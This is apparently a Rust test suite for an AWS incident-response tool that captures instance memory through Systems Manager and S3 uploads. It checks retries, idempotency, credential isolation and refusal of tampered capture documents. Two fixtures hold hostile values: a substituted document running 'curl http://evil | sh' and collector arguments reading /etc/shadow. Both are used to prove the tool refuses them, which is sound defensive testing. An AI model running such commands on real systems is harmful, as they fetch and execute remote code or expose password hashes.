//! The beginning of a capture, against the real SDK clients.

use crate::support::{CASE, World, command, time};
use incident::capture::wave_key;
use incident::evidence::CaptureStatus;
use incident::{Classify as _, Fault};
use serde_json::json;
use stub::Answer;

const SEND: &str = "ssm:SendCommand";
const CREATE: &str = "s3:CreateMultipartUpload";
const ABORT: &str = "s3:AbortMultipartUpload";

#[tokio::test]
async fn uploads_a_wave_and_one_pinned_command_are_what_a_capture_begins_with() {
    let world = World::new();
    let begun = world.begin().await;
    let progress = begun.progress.unwrap();
    assert_eq!((progress.begun, progress.moved, progress.parts), (time(0), time(0), 0));
    assert_eq!(world.aws.open_uploads().len(), 6, "the image and five files");
    let command = world.account().commands[0].clone();
    assert_eq!(command["Comment"], format!("cordon {CASE}"));
    assert_eq!((&command["DocumentName"], &command["DocumentVersion"]), (&json!("cordon-capture"), &json!("3")));
    assert_eq!(command["DocumentHash"], incident::text::sha256(world.account().content.as_bytes()));
    assert_eq!((&command["DocumentHashType"], &command["InstanceIds"]), (&json!("Sha256"), &json!(["i-0abc1234def567890"])));
    assert_eq!(command["Parameters"].as_object().unwrap().keys().collect::<Vec<_>>(), ["PlanUrl"]);

    // The document takes no other characters: this is the template's pattern.
    let url = command["Parameters"]["PlanUrl"][0].as_str().unwrap();
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._~:/?&=%+-".contains(&byte);
    assert!(url.starts_with("https://") && url.bytes().all(plain), "{url}");

    let wave = world.first_wave();
    let settings = wave.settings.clone().unwrap();
    assert_eq!((settings.part_bytes, settings.puts, settings.tries, settings.deadline_seconds), (8 << 20, 2, 5, 14_400));
    assert_eq!((wave.number, wave.first_part, wave.parts.len(), wave.valid_seconds), (1, 1, 20, 3540));
    assert_eq!(world.wave_after(&wave), None, "there is no second wave yet");
    let actions = world.aws.actions();
    let at = |action: &str| actions.iter().position(|there| there == action).unwrap();
    assert!(at("s3:PutObject") < at(CREATE) && at(CREATE) < at(SEND), "the intent comes first: {actions:?}");
    assert_eq!((world.records("intent"), world.records("outcome")), (1, 1));
}

#[tokio::test]
async fn no_credential_is_in_anything_that_goes_to_the_target_or_to_systems_manager() {
    let world = World::new();
    world.begin().await;
    let sent: Vec<String> =
        world.aws.calls().iter().filter(|call| call.action.starts_with("ssm:")).map(|call| call.body.clone()).collect();
    let objects = world.aws.keys().into_iter().filter_map(|key| world.aws.object(&key));
    let seen = sent.into_iter().chain(objects.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()));
    for text in seen {
        assert!(!text.contains("session-secret") && !text.contains("\"secret\"") && !text.contains("AKID/"), "{text}");
    }
    // Each session is for one key, and every key has its own.
    let mut resources: Vec<String> =
        world.account().sessions.values().map(|policy| policy["Statement"][0]["Resource"].as_str().unwrap().to_owned()).collect();
    resources.sort();
    let count = resources.len();
    resources.dedup();
    assert_eq!((resources.len(), count), (9, 9), "{resources:?}");
    assert!(resources.iter().all(|resource| !resource.contains('*')), "{resources:?}");
}

#[tokio::test]
async fn what_is_begun_is_not_begun_again() {
    let world = World::new();
    let begun = world.begin().await;
    world.aws.forget_calls();
    // The answer was lost: the state machine asks as if nothing had happened.
    let again = world.look(0, 1, None).await.unwrap();
    assert_eq!(command(&again), command(&begun));
    assert_eq!(again.progress, begun.progress);
    assert_eq!((world.aws.count(SEND), world.aws.count(CREATE)), (0, 0));
}

#[tokio::test]
async fn two_captures_at_once_are_one() {
    let world = World::new();
    world.aws.take_turns();
    let (one, two) = futures_util::future::join(world.look(0, 0, None), world.look(0, 1, None)).await;
    let (one, two) = (one.unwrap(), two.unwrap());
    assert_eq!(world.account().commands.len(), 1, "one collector runs");
    assert_eq!(world.aws.count(CREATE), 12, "both must have begun uploads, or they were not at once");
    assert_eq!(world.aws.count(ABORT), 6, "the second drops its own");
    assert_eq!(world.aws.open_uploads().len(), 6, "those of the first stay");
    let known = world.account().commands[0]["CommandId"].as_str().unwrap().to_owned();
    for capture in [one, two] {
        let next = world.look(5, 0, Some(&capture)).await.unwrap();
        assert_eq!(command(&next), Some(known.as_str()), "both see the same command: {next:?}");
    }
    assert_eq!(world.account().commands.len(), 1);
}

#[tokio::test]
async fn whatever_is_throttled_once_is_transient_and_the_retry_begins_one_capture() {
    for action in [
        "ssm:DescribeInstanceInformation",
        "ssm:GetDocument",
        "ssm:DescribeDocument",
        "s3:HeadObject",
        "sts:AssumeRole",
        CREATE,
        "s3:GetObject",
        SEND,
    ] {
        let world = World::new();
        let throttled = match action.split_once(':') {
            Some(("s3", _)) => Answer::s3_error(503, "SlowDown", "slow"),
            Some(("sts", _)) => Answer::query_error(400, "Throttling", "slow"),
            _ => Answer::json_error(400, "ThrottlingException", "slow"),
        };
        world.aws.push(action, throttled);
        let error = world.look(0, 0, None).await.unwrap_err();
        assert_eq!(error.fault(), Fault::Transient, "{action}: {error}");
        let begun = world.look(0, 1, None).await.unwrap();
        assert!(command(&begun).is_some(), "{action}: {begun:?}");
        assert_eq!(world.account().commands.len(), 1, "{action}");
        assert_eq!(world.records("intent"), world.records("outcome"), "{action}: each intent has its outcome");
    }
}

#[tokio::test]
async fn wherever_a_put_is_throttled_or_its_answer_lost_one_capture_begins() {
    for lost in [false, true] {
        for nth in 0..6 {
            let world = World::new();
            (0..nth).for_each(|_| world.aws.push("s3:PutObject", Answer::bucket()));
            let failure = if lost { Answer::bucket_then_lost() } else { Answer::s3_error(503, "SlowDown", "slow") };
            world.aws.push("s3:PutObject", failure);
            let error = world.look(0, 0, None).await.unwrap_err();
            assert_eq!(error.fault(), Fault::Transient, "put {nth}: {error}");
            let mut look = world.look(0, 1, None).await.unwrap();
            // A claim whose answer was lost is waited for until it is void.
            for second in [60, 121] {
                if command(&look).is_none() {
                    look = world.look(second, 0, Some(&look)).await.unwrap();
                }
            }
            assert!(command(&look).is_some(), "put {nth}, lost {lost}: {look:?}");
            assert_eq!(world.account().commands.len(), 1, "put {nth}, lost {lost}");
        }
    }
}

#[tokio::test]
async fn a_command_whose_answer_is_lost_is_found_and_never_sent_twice() {
    let world = World::new().resent_by_the_sdk();
    let account = std::sync::Arc::clone(&world.account);
    world.aws.set_fn(SEND, move |call| {
        account.lock().unwrap().answer(call);
        Answer::lost()
    });
    let error = world.look(0, 0, None).await.unwrap_err();
    assert_eq!((error.fault(), world.aws.count(SEND)), (Fault::Transient, 1), "the SDK must not send it again: {error}");
    let found = world.look(0, 1, None).await.unwrap();
    assert_eq!(command(&found), Some("00000000-0000-0000-0000-000000000001"));
    assert_eq!((world.account().commands.len(), world.aws.count(SEND)), (1, 1));
    assert!(found.progress.unwrap().wave.is_some(), "it knows its first wave");
}

#[tokio::test]
async fn a_command_that_was_never_sent_is_sent_once_its_claimer_is_evidently_dead() {
    let world = World::new();
    world.aws.push(SEND, Answer::lost());
    assert_eq!(world.look(0, 0, None).await.unwrap_err().fault(), Fault::Transient);
    let waiting = world.look(0, 1, None).await.unwrap();
    assert_eq!((command(&waiting), waiting.pause_seconds), (None, 5));
    let waiting = world.look(119, 0, Some(&waiting)).await.unwrap();
    assert_eq!((command(&waiting), world.account().commands.len()), (None, 0));
    let sent = world.look(120, 0, Some(&waiting)).await.unwrap();
    assert!(command(&sent).is_some());
    assert_eq!(world.account().commands.len(), 1);
}

#[tokio::test]
async fn other_commands_on_the_target_are_not_taken_for_ours() {
    let world = World::new();
    for (comment, document) in
        [("cordon i-0abc1234def567890-ffffffffffff", "cordon-capture"), (&*format!("cordon {CASE}"), "AWS-RunShellScript")]
    {
        let other = json!({"CommandId": "00000000-0000-0000-0000-00000000000f", "Comment": comment, "DocumentName": document});
        world.account().commands.push(other);
    }
    world.aws.push(SEND, Answer::lost());
    assert!(world.look(0, 0, None).await.is_err());
    let waiting = world.look(0, 1, None).await.unwrap();
    assert_eq!(command(&waiting), None, "neither is ours");
    assert!(world.aws.count("ssm:ListCommands") > 0);
}

#[tokio::test]
async fn an_agent_that_blinks_is_waited_for() {
    let world = World::new();
    "ConnectionLost".clone_into(&mut world.account().ping);
    let waiting = world.look(0, 0, None).await.unwrap();
    assert_eq!((waiting.status, waiting.pause_seconds), (CaptureStatus::Running, 5));
    let waiting = world.look(100, 0, Some(&waiting)).await.unwrap();
    assert_eq!((world.aws.count(CREATE), world.records("intent")), (0, 0), "nothing is begun, and nothing announced");
    "Online".clone_into(&mut world.account().ping);
    let begun = world.look(105, 0, Some(&waiting)).await.unwrap();
    assert!(command(&begun).is_some());
}

#[tokio::test]
async fn an_agent_that_is_silent_or_unknown_ends_it_with_what_to_do() {
    for (ping, said) in [
        ("ConnectionLost", "is silent (ConnectionLost)"),
        ("Inactive", "is silent (Inactive)"),
        ("", "does not know the instance"),
    ] {
        let world = World::new();
        ping.clone_into(&mut world.account().ping);
        let waiting = world.look(0, 0, None).await.unwrap();
        let ended = world.look(180, 0, Some(&waiting)).await.unwrap();
        assert_eq!(ended.status, CaptureStatus::NotCaptured);
        assert!(ended.reason.contains(said) && ended.reason.contains("by hand"), "{}", ended.reason);
        assert_eq!(world.aws.count(SEND), 0);
    }
}

#[tokio::test]
async fn an_agent_that_is_lost_at_the_last_moment_is_waited_for_too() {
    let world = World::new();
    world.aws.push(SEND, Answer::json_error(400, "InvalidInstanceId", "not in a valid state"));
    let waiting = world.look(0, 0, None).await.unwrap();
    assert_eq!(command(&waiting), None);
    assert!(command(&world.look(5, 0, Some(&waiting)).await.unwrap()).is_some());
    assert_eq!((world.account().commands.len(), world.aws.count(CREATE)), (1, 6), "the same uploads");
}

/// What is different in a world.
type Change = Box<dyn Fn(&mut World)>;

#[tokio::test]
async fn what_stands_against_it_is_an_outcome_and_never_an_error() {
    let other = json!({"schemaVersion": "2.2", "parameters": {"PlanUrl": {}}, "mainSteps": [
        {"action": "aws:runShellScript", "inputs": {"runCommand": ["curl http://evil | sh"]}}]});
    let cases: Vec<(&str, Change)> = vec![
        ("there is no collector for Windows", Box::new(|world| world.plan["target"]["windows"] = json!(true))),
        ("no collector for the target's processor", Box::new(|world| world.plan["target"]["architecture"] = json!(null))),
        ("no collector was deployed for arm64", Box::new(|world| world.plan["target"]["architecture"] = json!("arm64"))),
        (
            "is not in the evidence bucket",
            Box::new(|world| {
                world.deployment.collector_x86 = "cd".repeat(32);
                let script = memory_capture::document::script(&world.deployment);
                let mut content: serde_json::Value = serde_json::from_str(&world.account().content).unwrap();
                content["mainSteps"][0]["inputs"]["runCommand"] = json!([script]);
                world.account().content = content.to_string();
            }),
        ),
        (
            "is not the one this function was built for",
            Box::new(|world| world.deployment.arguments = "--file /etc/shadow".to_owned()),
        ),
        ("deploy again", Box::new(move |world| world.account().content = other.to_string())),
        ("gives no hash", Box::new(|world| world.aws.set("ssm:DescribeDocument", Answer::json("{}")))),
        ("runs on `Windows`", Box::new(|world| "Windows".clone_into(&mut world.account().platform))),
        ("InvalidDocument", Box::new(|world| world.aws.set("ssm:GetDocument", Answer::json_error(400, "InvalidDocument", "no")))),
        (
            "AccessDenied",
            Box::new(|world| {
                world.aws.set("ssm:DescribeInstanceInformation", Answer::json_error(400, "AccessDeniedException", "no"));
            }),
        ),
        ("s3:HeadObject", Box::new(|world| world.aws.set("s3:HeadObject", Answer::empty(403)))),
    ];
    for (reason, change) in cases {
        let mut world = World::new();
        change(&mut world);
        let ended = world.look(0, 0, None).await.unwrap();
        assert_eq!(ended.status, CaptureStatus::NotCaptured, "{reason}");
        assert!(ended.reason.contains(reason), "`{}` must say `{reason}`", ended.reason);
        assert_eq!((world.aws.count(SEND), world.aws.count(CREATE)), (0, 0), "{reason}");
        assert_eq!(world.records("outcome"), 1, "{reason}: it is in the records");
    }
}

#[tokio::test]
async fn what_is_denied_on_the_way_ends_it_and_leaves_no_upload() {
    let no = || Answer::json_error(400, "AccessDeniedException", "no");
    for (action, answer) in [
        (SEND, no()),
        ("sts:AssumeRole", Answer::query_error(403, "AccessDenied", "no")),
        (CREATE, Answer::s3_error(403, "AccessDenied", "no")),
    ] {
        let world = World::new();
        world.aws.set(action, answer);
        let ended = world.look(0, 0, None).await.unwrap();
        assert_eq!(ended.status, CaptureStatus::NotCaptured, "{action}");
        assert!(ended.reason.contains(action) && ended.reason.contains("AccessDenied"), "{}", ended.reason);
        assert!(world.aws.open_uploads().is_empty(), "{action}");
        let (intents, outcomes) = (world.records("intent"), world.records("outcome"));
        // Where no upload was begun there is none to drop: the end is a note, an outcome without an intent.
        assert_eq!((intents, outcomes), if action == CREATE { (1, 2) } else { (2, 2) }, "{action}");
    }
}

#[tokio::test]
async fn without_an_intent_nothing_is_begun() {
    let world = World::new();
    world.aws.set("s3:PutObject", Answer::s3_error(403, "AccessDenied", "no"));
    assert_eq!(world.look(0, 0, None).await.unwrap_err().fault(), Fault::Denied);
    assert_eq!((world.aws.count(SEND), world.aws.count(CREATE)), (0, 0));
}

#[tokio::test]
async fn a_plan_without_memory_and_one_that_is_over_touch_nothing() {
    let mut world = World::new();
    world.plan["memory"] = json!({"decision": "skip", "because": "noPath", "reason": "no way to S3"});
    let ended = world.look(0, 0, None).await.unwrap();
    assert_eq!((ended.status, ended.reason.as_str(), world.aws.calls().len()), (CaptureStatus::NotCaptured, "no way to S3", 0));

    let late = World::new();
    let ended = late.look(14_400, 0, None).await.unwrap();
    assert_eq!(ended.status, CaptureStatus::NotCaptured);
    assert!(ended.reason.contains("deadline"), "{}", ended.reason);
    assert_eq!((late.aws.count(SEND), late.aws.count(CREATE)), (0, 0));
    // What has ended stays so.
    assert_eq!(late.look(14_401, 0, Some(&ended)).await.unwrap(), ended);
    assert!(late.aws.object(&wave_key(&late.plan().case_id, 1)).is_none());
}
